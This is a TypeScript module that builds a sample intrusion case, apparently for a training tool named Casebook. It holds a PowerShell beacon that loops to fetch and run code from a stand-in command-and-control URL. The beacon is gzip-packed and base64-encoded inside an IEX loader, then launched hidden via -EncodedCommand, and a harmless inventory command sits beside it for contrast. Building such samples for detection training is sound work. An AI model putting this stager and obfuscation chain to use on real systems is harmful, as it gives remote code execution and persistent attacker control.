import { constants, gzipSync } from 'node:zlib';
import { ATTACKER, BEACON } from './story.js';

/**
 * The text under the two layers of the sample's encoded command. It is inert: its server lies in a reserved domain
 * that no resolver knows.
 */
export const STAGER_TEXT = [
  '# Sample incident of Casebook. Inert: the server below is in a reserved domain and does not exist.',
  `$server = '${ATTACKER.c2Url}'`,
  `$every = ${BEACON.intervalSeconds}; $jitter = ${BEACON.jitterSeconds}`,
  '$id = [guid]::NewGuid().ToString()',
  'while ($true) { iex (irm "$server`?id=$id"); sleep ($every + (Get-Random -Min (-$jitter) -Max $jitter)) }',
].join('\n');

/** UTF-16LE in base64: what PowerShell's `-EncodedCommand` takes. */
export const encodeCommand = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');

function gzipBase64(text: string): string {
  // Huffman coding only: string matching differs between builds of zlib, and the sample must not.
  const packed = gzipSync(text, { strategy: constants.Z_HUFFMAN_ONLY, level: 9 });
  packed[9] = 255; // the header's "operating system" byte: unknown
  return packed.toString('base64');
}

/** The script of the outer layer: unpacks the inner one and runs it. */
export const LOADER_TEXT =
  `$b=[Convert]::FromBase64String('${gzipBase64(STAGER_TEXT)}');`
  + '$z=New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,$b)),[IO.Compression.CompressionMode]::Decompress);'
  + 'IEX (New-Object IO.StreamReader($z)).ReadToEnd()';

/** What the attacker ran on the victim's workstation. */
export const ATTACK_COMMAND = `powershell.exe -NoP -W Hidden -EncodedCommand ${encodeCommand(LOADER_TEXT)}`;

/** What the device management tool runs on every machine each day: encoded too, and harmless. */
export const INVENTORY_TEXT =
  'Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First 5 HotFixID,InstalledOn | ConvertTo-Json';
export const INVENTORY_COMMAND =
  `powershell.exe -NoProfile -NonInteractive -ExecutionPolicy AllSigned -EncodedCommand ${encodeCommand(INVENTORY_TEXT)}`;
